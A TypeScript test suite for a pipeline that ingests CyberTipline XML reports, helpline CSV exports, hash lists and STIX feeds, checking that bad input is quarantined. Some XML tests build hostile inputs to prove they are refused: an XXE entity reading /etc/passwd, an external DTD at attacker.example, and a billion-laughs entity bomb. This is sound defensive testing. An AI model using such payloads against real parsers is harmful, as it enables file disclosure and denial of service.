import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { generateReports } from '../src/generator/index.ts';
import { CHI_STYLE_MAPPING, exportStixBundle } from '../src/ingest/index.ts';
import type { ReportBundle } from '../src/store/repositories/records.ts';
import { fixture, mapInput } from './fixtures/ingest/support.ts';

const sample = readFileSync(fixture('report-sample.xml'), 'utf8');
const report = (w: Awaited<ReturnType<typeof mapInput>>, i = 0): ReportBundle => {
  const u = w.good[i]?.mapped.units[0];
  if (!u || u.kind !== 'report') throw new Error('no report accepted');
  return u.bundle;
};
const problem = (w: Awaited<ReturnType<typeof mapInput>>, i = 0) => w.bad[i]?.problems[0];

describe('CyberTipline XML: bad input is quarantined with a precise error, never half-read', () => {
  it('malformed XML: the record goes to quarantine with the line and element path', async () => {
    const w = await mapInput('cybertipline-xml', sample.replace('</incidentType>', '</incidentTyp>'), { file: 'bad.xml' });
    expect(w.good).toHaveLength(0);
    expect(problem(w)).toMatchObject({ code: 'xml_malformed', where: { file: 'bad.xml', line: 5 } });
    expect(problem(w)?.message).toMatch(/not well-formed/);
  });

  it('truncated XML: the open record is kept whole in quarantine with where it started', async () => {
    const cut = sample.slice(0, Math.floor(sample.length / 2));
    const w = await mapInput('cybertipline-xml', cut, { file: 'cut.xml' });
    expect(w.good).toHaveLength(0);
    const b = w.bad.find((x) => x.problems.some((p) => p.code === 'xml_truncated'));
    expect(b?.problems.find((p) => p.code === 'xml_truncated')).toMatchObject({ where: { file: 'cut.xml', line: 3, path: '/report' } });
    expect(b?.rec.raw).toBe(cut.slice(cut.indexOf('<report>')));
  });

  it('external entities (XXE) are never resolved: the DOCTYPE is refused and no file content appears anywhere', async () => {
    const xxe = sample.replace('<report>', '<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<report>').replace('ExampleChat Messenger</platform>', '&xxe;</platform>');
    const w = await mapInput('cybertipline-xml', xxe, { file: 'xxe.xml' });
    expect(w.good).toHaveLength(0);
    const codes = w.bad.flatMap((b) => b.problems.map((p) => p.code));
    expect(codes).toContain('doctype_forbidden');
    expect(codes).toContain('xml_malformed');
    expect(JSON.stringify(w)).not.toMatch(/root:x:0:0/);
    const ext = sample.replace('<report>', '<!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd">\n<report>');
    const w2 = await mapInput('cybertipline-xml', ext, { file: 'dtd.xml' });
    expect(w2.bad.flatMap((b) => b.problems.map((p) => p.code))).toContain('doctype_forbidden');
  });

  it('entity expansion ("billion laughs") is impossible: nothing expands, the record is refused at once', async () => {
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
    const bomb = sample.replace('<report>', `<!DOCTYPE report [${lol}]>\n<report>`).replace('ExampleChat Messenger</platform>', '&lol9;</platform>');
    const t0 = performance.now();
    const w = await mapInput('cybertipline-xml', bomb);
    expect(performance.now() - t0).toBeLessThan(2000);
    expect(w.good).toHaveLength(0);
    expect(Math.max(...w.read.map((r) => r.raw.length))).toBeLessThan(bomb.length);
    expect(JSON.stringify(w)).not.toContain('lollollol');
  });

  it('reads UTF-8 with a BOM, UTF-16 LE and BE, and Latin-1 (declared or detected) to the same records', async () => {
    const withUrl = sample.replace('<internetDetails>', '<internetDetails>\n    <webPageIncident><url>https://café.example/p/é</url></webPageIncident>\n  </internetDetails>\n  <internetDetails>');
    const url = (w: Awaited<ReturnType<typeof mapInput>>) => report(w).signals?.find((s) => s.type === 'url')?.value;
    const utf8 = await mapInput('cybertipline-xml', withUrl);
    expect(url(utf8)).toBe('https://café.example/p/é');
    const bom = await mapInput('cybertipline-xml', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(withUrl)]));
    expect(url(bom)).toBe('https://café.example/p/é');
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(withUrl.replace('UTF-8', 'UTF-16'), 'utf16le')]);
    expect(url(await mapInput('cybertipline-xml', le))).toBe('https://café.example/p/é');
    const beBody = Buffer.from(withUrl.replace('UTF-8', 'UTF-16'), 'utf16le').swap16();
    expect(url(await mapInput('cybertipline-xml', Buffer.concat([Buffer.from([0xfe, 0xff]), beBody])))).toBe('https://café.example/p/é');
    const latin1 = Buffer.from(withUrl.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), 'latin1');
    const l = await mapInput('cybertipline-xml', latin1);
    expect(url(l)).toBe('https://café.example/p/é');
    expect(l.encodings[0]).toMatch(/latin1: XML declaration/);
    const undeclared = await mapInput('cybertipline-xml', Buffer.from(withUrl.replace(' encoding="UTF-8"', ''), 'latin1'));
    expect(url(undeclared)).toBe('https://café.example/p/é');
    expect(undeclared.encodings[0]).toMatch(/latin1: no valid UTF-8/);
  });

  it('mixed encodings: the record holding bytes that are not UTF-8 is quarantined with the byte; the others are accepted', async () => {
    const two = `<?xml version="1.0" encoding="UTF-8"?>\n<batch>\n${sample.replace(/^<\?xml[^>]*\?>\s*<!--.*?-->\s*/s, '').replace('ExampleChat Messenger</platform>', 'Café</platform>')}${sample.replace(/^<\?xml[^>]*\?>\s*<!--.*?-->\s*/s, '').replace('ExampleChat Messenger</platform>', 'Zoë Chat</platform>')}</batch>`;
    const bytes = Buffer.from(two, 'utf8');
    const i = bytes.indexOf(Buffer.from('Caf\u00e9', 'utf8'));
    const mixed = Buffer.concat([bytes.subarray(0, i + 3), Buffer.from([0xe9]), bytes.subarray(i + 5)]);
    const w = await mapInput('cybertipline-xml', mixed, { file: 'mixed.xml' });
    expect(w.good).toHaveLength(1);
    expect(w.bad).toHaveLength(1);
    expect(problem(w)).toMatchObject({ code: 'invalid_encoding', where: { file: 'mixed.xml', line: 3 } });
    expect(problem(w)?.message).toMatch(/0xE9/);
    expect(w.bad[0]?.rec.raw).toContain('Caf\uf7e9');
  });

  it('elements out of order or repeated are refused with the element path and the rule', async () => {
    const swapped = sample.replace(/(<incidentType>.*?<\/incidentType>)\s*(<platform>.*?<\/platform>)/s, '$2\n    $1');
    const w = await mapInput('cybertipline-xml', swapped);
    expect(problem(w)).toMatchObject({ code: 'element_out_of_order', where: { path: '/report/incidentSummary/incidentType', field: 'incidentType', line: 6 } });
    const twice = sample.replace(/(<incidentType>.*?<\/incidentType>)/s, '$1\n    $1');
    expect(problem(await mapInput('cybertipline-xml', twice))).toMatchObject({ code: 'element_repeated', where: { path: '/report/incidentSummary/incidentType' } });
    const reporterless = sample.replace(/<reporter>.*<\/reporter>/s, '');
    expect(problem(await mapInput('cybertipline-xml', reporterless))).toMatchObject({ code: 'missing_element', where: { path: '/report/reporter' } });
    const unknown = sample.replace('<additionalInfo>', '<favouriteColour>blue</favouriteColour>\n  <additionalInfo>');
    expect(problem(await mapInput('cybertipline-xml', unknown))).toMatchObject({ code: 'unknown_element', where: { path: '/report/favouriteColour' } });
  });

  it('dates: time zones converted, a missing zone flagged, odd formats and impossible dates refused with the field', async () => {
    const at = (v: string) => mapInput('cybertipline-xml', sample.replace('2024-03-05T14:22:00Z', v));
    expect(report(await at('2024-03-05T14:22:00+05:30')).report.incidentAt).toBe('2024-03-05T08:52:00.000Z');
    expect(report(await at('2024-03-05T14:22:00.5-08:00')).report.incidentAt).toBe('2024-03-05T22:22:00.500Z');
    const local = report(await at('2024-03-05T14:22:00'));
    expect(local.report.incidentAt).toBe('2024-03-05T14:22:00.000Z');
    expect(local.report.flags).toContain('incident-time-zone-unknown');
    expect(report(await at('2024-03-05T24:00:00Z')).report.incidentAt).toBe('2024-03-06T00:00:00.000Z');
    for (const bad of ['03/05/2024 14:22', '2024-03-05 14:22:00', '2024-02-30T10:00:00Z', '2024-03-05T14:22:00+25:00', '1709648520', '']) {
      const p = problem(await at(bad));
      expect(p, bad).toMatchObject({ code: 'invalid_value', where: { path: '/report/incidentSummary/incidentDateTime', field: 'incidentDateTime' } });
    }
  });

  it('an unknown incident type is kept verbatim and flagged, never dropped', async () => {
    const w = await mapInput('cybertipline-xml', sample.replace('Child Pornography (possession, manufacture, and distribution)', 'Online Enticement of Children for Sexual Act'));
    const b = report(w);
    expect(b.report.incidentTypes).toEqual([{ scheme: 'ncmec-incident', code: 'Online Enticement of Children for Sexual Act' }]);
    expect(b.report.flags).toContain('unknown-incident-type');
    expect(w.good[0]?.mapped.notes[0]).toMatchObject({ code: 'unknown_category', value: 'Online Enticement of Children for Sexual Act' });
    expect(w.good[0]?.mapped.notes[0]?.message).toMatch(/reads as "Online Enticement of Children for Sexual Acts"/);
  });

  it('fixed-value flags, enumerations and classifications are checked', async () => {
    expect(problem(await mapInput('cybertipline-xml', sample.replace('<sextortion/>', '<sextortion>false</sextortion>')))).toMatchObject({ code: 'invalid_value', where: { field: 'sextortion' } });
    const file = readFileSync(fixture('filedetails-sample.xml'), 'utf8');
    expect(problem(await mapInput('cybertipline-xml', file.replace('>B2<', '>C1<')))).toMatchObject({ code: 'invalid_value', where: { path: '/fileDetails/industryClassification' } });
    const supplemental = await mapInput('cybertipline-xml', file.replace('<fileRelevance>Reported', '<fileRelevance>Supplemental Reported'));
    expect(supplemental.good[0]?.mapped.notes.map((n) => n.code)).toContain('ncmec_would_reject');
    expect(problem(await mapInput('cybertipline-xml', file.replace('hashType="MD5"', '')))).toMatchObject({ code: 'missing_attribute', where: { field: 'hashType' } });
    const odd = await mapInput('cybertipline-xml', file.replace('hashType="SHA1"', 'hashType="TLSH"'));
    expect(odd.good[0]?.mapped.notes[0]).toMatchObject({ code: 'unknown_hash_type', value: 'TLSH:00112233445566778899aabbccddeeff00112233' });
    // Other spellings of a known type are normalised; a name that is a property of every object is still not a hash type.
    const spelled = await mapInput('cybertipline-xml', file.replace('hashType="SHA1"', 'hashType="sha-1"'));
    expect(spelled.good[0]?.mapped.units[0]).toMatchObject({ kind: 'file', item: { hashes: { sha1: '00112233445566778899aabbccddeeff00112233' } } });
    const proto = await mapInput('cybertipline-xml', file.replace('hashType="SHA1"', 'hashType="constructor"'));
    expect(proto.good[0]?.mapped.notes[0]).toMatchObject({ code: 'unknown_hash_type', value: 'constructor:00112233445566778899aabbccddeeff00112233' });
  });

  it('text or elements outside any record are quarantined too (nothing is lost)', async () => {
    const w = await mapInput('cybertipline-xml', `<batch>stray text${sample.replace(/^<\?xml[^>]*\?>\s*<!--.*?-->\s*/s, '')}</batch>`);
    expect(w.good).toHaveLength(1);
    expect(problem(w)).toMatchObject({ code: 'unexpected_text' });
    expect(w.bad[0]?.rec.raw).toContain('stray text');
  });
});

const header = 'contact_id,date_time,channel,duration_minutes,child_age,child_gender,country,region,language,categories\n';
const row = (over: Partial<Record<string, string>> = {}) => {
  const v = { id: 'C-1', at: '2026-03-05T14:22:00+03:00', channel: 'Phone', dur: '12', age: '14', gender: 'Girl', country: 'KE', region: 'Nairobi', lang: 'en', cats: 'Violence/Online child sexual abuse and exploitation', ...over };
  return [v.id, v.at, v.channel, v.dur, v.age, v.gender, v.country, v.region, v.lang, v.cats].join(',') + '\n';
};
const contactOf = (w: Awaited<ReturnType<typeof mapInput>>, i = 0) => {
  const u = w.good[i]?.mapped.units[0];
  if (!u || u.kind !== 'contact') throw new Error('no contact accepted');
  return u.contact;
};

describe('helpline CSV: bad input', () => {
  const csv = (text: string | Buffer, extra: Record<string, unknown> = {}) => mapInput('helpline-csv', text, { mapping: CHI_STYLE_MAPPING, file: 'contacts.csv', ...extra });

  it('reads a CHI-style export: categories verbatim beside their chi-helpline code, dates to UTC', async () => {
    const w = await csv(header + row());
    expect(w.bad).toHaveLength(0);
    expect(contactOf(w)).toMatchObject({
      sourceRef: 'C-1', channel: 'phone', contactAt: '2026-03-05T11:22:00.000Z', durationMinutes: 12, age: { min: 14, max: 14, basis: 'reported' }, gender: 'female', country: 'KE',
      categories: [{ scheme: 'chi-helpline', code: 'violence/online-child-sexual-abuse-and-exploitation', label: 'Violence/Online child sexual abuse and exploitation' }],
    });
  });

  it('quoted fields with newlines and doubled quotes are one field', async () => {
    const w = await csv(header + row({ region: '"Nairobi\nWest, ""Zone 2"""' }) + row({ id: 'C-2' }));
    expect(w.bad).toHaveLength(0);
    expect(contactOf(w).region).toBe('Nairobi\nWest, "Zone 2"');
    expect(w.good[1]?.rec.where.line).toBe(4);
  });

  it('stray delimiters, ragged rows and stray quotes are quarantined with line (and column); the next rows are read', async () => {
    const w = await csv(header + row({ region: 'Nairobi, West' }) + 'C-3,2026-03-05T10:00:00Z,Chat\n' + row({ id: 'C-4', region: 'Nai"robi' }) + row({ id: 'C-5' }));
    expect(w.good.map((g) => g.rec.where.line)).toEqual([5]);
    expect(w.bad.map((b) => [b.problems[0]?.code, b.problems[0]?.where?.line])).toEqual([['csv_ragged_row', 2], ['csv_ragged_row', 3], ['csv_stray_quote', 4]]);
    expect(w.bad[2]?.problems[0]?.where?.column).toBe(row({ id: 'C-4', region: 'Nai"robi' }).indexOf('"') + 1);
    expect(w.bad[0]?.problems[0]?.message).toMatch(/11 field\(s\), the header has 10/);
  });

  it('a quote that never closes costs one line, not the rest of the file', async () => {
    let text = header + row({ region: '"Nairobi' });
    for (let i = 0; i < 300; i++) text += row({ id: `D-${i}` });
    const w = await csv(text);
    expect(w.bad).toHaveLength(1);
    expect(w.bad[0]?.problems[0]).toMatchObject({ code: 'csv_unclosed_quote', where: { line: 2 } });
    expect(w.good).toHaveLength(300);
  });

  it('unknown categories are kept verbatim and flagged, never dropped', async () => {
    const w = await csv(header + row({ cats: 'Online Harms/Revenge Porn; Violence/Sexual violence' }));
    expect(contactOf(w).categories).toEqual([
      { scheme: 'x-unmapped', code: 'Online Harms/Revenge Porn', label: 'Online Harms/Revenge Porn' },
      { scheme: 'chi-helpline', code: 'violence/sexual-violence', label: 'Violence/Sexual violence' },
    ]);
    const notes = w.good[0]?.mapped.notes ?? [];
    expect(notes.find((n) => n.code === 'unknown_category')).toMatchObject({ value: 'Online Harms/Revenge Porn', where: { line: 2, field: 'categories', column: 10 } });
    // The terminology linter's preferred wording is given beside the verbatim source label.
    const preferred = notes.find((n) => n.code === 'preferred_label');
    expect(preferred?.value).toBe('Online Harms/Revenge Porn');
    expect(preferred?.message).not.toMatch(/shown as "[^"]*Revenge Porn/);
  });

  it('odd dates and time zones: the mapping\'s format and zone, offsets honoured, impossible dates refused', async () => {
    const dmy = { ...CHI_STYLE_MAPPING, dateFormat: 'DD/MM/YYYY HH:mm' as const, timeZone: 'Africa/Nairobi' };
    const w = await csv(header + row({ at: '05/03/2026 14:22' }) + row({ id: 'C-2', at: '31/02/2026 10:00' }) + row({ id: 'C-3', at: '2026-07-01T09:00:00-04:00' }) + row({ id: 'C-4', at: 'yesterday' }), { mapping: dmy });
    expect(contactOf(w, 0).contactAt).toBe('2026-03-05T11:22:00.000Z');
    expect(contactOf(w, 1).contactAt).toBe('2026-07-01T13:00:00.000Z');
    expect(w.bad.map((b) => [b.problems[0]?.code, b.problems[0]?.where?.line, b.problems[0]?.where?.field])).toEqual([['invalid_date', 3, 'date_time'], ['invalid_date', 5, 'date_time']]);
    const berlin = await csv(header + row({ at: '2026-07-01 12:00' }), { mapping: { ...CHI_STYLE_MAPPING, timeZone: 'Europe/Berlin' } });
    expect(contactOf(berlin).contactAt).toBe('2026-07-01T10:00:00.000Z');
  });

  it('invalid field values name the CSV column and the CDM field', async () => {
    const w = await csv(header + row({ age: '40' }) + row({ id: 'C-2', country: 'Kenya' }) + row({ id: 'C-3', age: 'twelve' }));
    expect(w.bad.map((b) => [b.problems[0]?.where?.field, b.problems[0]?.where?.line])).toEqual([['child_age', 2], ['country', 3], ['child_age', 4]]);
    expect(w.bad[1]?.problems[0]?.message).toMatch(/column "country" \(country\): must be an ISO 3166-1 alpha-2/);
  });

  it('a header without the mapped columns quarantines the header and every row, nothing silently skipped', async () => {
    const w = await csv('id,when\nC-1,2026-01-01T00:00:00Z\n');
    expect(w.bad.map((b) => b.problems[0]?.code)).toEqual(['csv_missing_columns', 'csv_missing_column']);
  });

  it('Latin-1 and UTF-16 CSV files are read; a BOM is not part of the first column name', async () => {
    const text = header + row({ region: 'Région' });
    expect(contactOf(await csv(Buffer.from(text, 'latin1'))).region).toBe('Région');
    expect(contactOf(await csv(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).region).toBe('Région');
    expect(contactOf(await csv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]))).sourceRef).toBe('C-1');
  });
});

describe('hash lists and STIX: bad input', () => {
  it('hash lists: bad hashes are quarantined with their line; PDQ hash,quality read; comments skipped', async () => {
    const pdq = 'f'.repeat(64);
    const w = await mapInput('hashlist', `# a list\n${'a'.repeat(32)}\nnot-a-hash\n${pdq},87\n${'b'.repeat(31)}\n${'c'.repeat(40)}\n`, { file: 'list.txt' });
    expect(w.good.map((g) => g.mapped.units.map((u) => (u.kind === 'hash' ? `${u.hash.signalType}:${u.hash.quality ?? ''}` : '')))).toEqual([['md5:'], ['pdq:87'], ['sha1:']]);
    expect(w.bad.map((b) => [b.problems[0]?.code, b.problems[0]?.where?.line])).toEqual([['invalid_hash', 3], ['invalid_hash', 5]]);
  });

  it('hash list CSV: classification columns; an unknown code is kept in the label and flagged', async () => {
    const w = await mapInput('hashlist', `md5,uk-2014,label\n${'a'.repeat(32)},A,first\n${'b'.repeat(32)},Z,second\n`);
    const units = w.good.map((g) => g.mapped.units[0]);
    expect(units[0]).toMatchObject({ kind: 'hash', hash: { signalType: 'md5', classification: { scheme: 'uk-2014', code: 'A' }, label: 'first' } });
    expect(units[1]).toMatchObject({ kind: 'hash', hash: { label: 'second uk-2014:Z (unmapped)' } });
    expect(w.good[1]?.mapped.notes[0]).toMatchObject({ code: 'unknown_category', value: 'uk-2014:Z' });
  });

  it('STIX: a malformed object is quarantined alone; unsupported patterns say what is supported', async () => {
    const bundle = `{"type":"bundle","id":"bundle--1","objects":[
{"type":"indicator","spec_version":"2.1","id":"indicator--a","pattern_type":"stix","pattern":"[file:hashes.MD5 = '${'a'.repeat(32)}']","valid_from":"2026-01-01T00:00:00Z"},
{"type":"indicator", "id": oops},
{"type":"indicator","spec_version":"2.1","id":"indicator--b","pattern_type":"stix","pattern":"[ipv4-addr:value = '192.0.2.1']","valid_from":"2026-01-01T00:00:00Z"}
]}`;
    const w = await mapInput('stix', bundle, { file: 'b.json' });
    expect(w.good).toHaveLength(1);
    expect(w.bad.map((b) => [b.problems[0]?.code, b.problems[0]?.where?.line])).toEqual([['invalid_json', 3], ['unsupported_pattern', 4]]);
    expect(w.bad[1]?.problems[0]?.message).toMatch(/file:hashes/);
  });

  it('STIX as JSON Lines, objects in reverse order: references are resolved, the report is whole', async () => {
    const [batch] = generateReports({ seed: 2, count: 3, batchSize: 3 });
    const objects = (exportStixBundle(batch ?? []).objects as Array<Record<string, unknown>>).reverse();
    const w = await mapInput('stix', objects.map((o) => JSON.stringify(o)).join('\n') + '\n', { file: 'feed.jsonl' });
    expect(w.bad).toHaveLength(0);
    const reports = w.good.flatMap((g) => g.mapped.units).filter((u) => u.kind === 'report');
    expect(reports).toHaveLength(3);
    for (const [i, u] of reports.entries()) {
      const want = (batch ?? []).find((b) => u.kind === 'report' && b.report.sourceRef === u.bundle.report.sourceRef);
      expect(want, String(i)).toBeDefined();
      if (u.kind === 'report') expect(u.bundle.contentItems?.length).toBe(want?.contentItems?.length);
    }
  });
});
